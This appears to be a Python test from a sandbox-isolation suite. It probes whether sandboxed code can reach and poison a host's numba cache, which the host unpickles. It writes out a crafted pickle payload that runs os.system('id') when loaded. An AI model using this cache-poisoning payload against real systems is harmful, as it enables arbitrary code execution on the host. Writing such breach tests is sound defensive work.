"""Poison the cache that the host's zygote unpickles.

Attacks: the warm numba cache.
How: write an index file there, or read it to learn its form.
Source: CWE-502; numba's documentation says that its cache is pickle.
Breach: the folder is listed, or a file is made in it.
"""

import os

from kernel import went_through

GROUP = "files"
CONTROL = "the cache lies in the host's home folder, which the control run of files_private_places reaches"


def attack(outside):
    return went_through(
        listed=lambda: os.listdir(outside.numba_cache),
        poisoned=lambda: open(os.path.join(outside.numba_cache, "x.nbi"), "wb").write(b"cos\nsystem\n(S'id'\ntR."),
        made=lambda: os.makedirs(os.path.join(outside.numba_cache, "new")),
    )
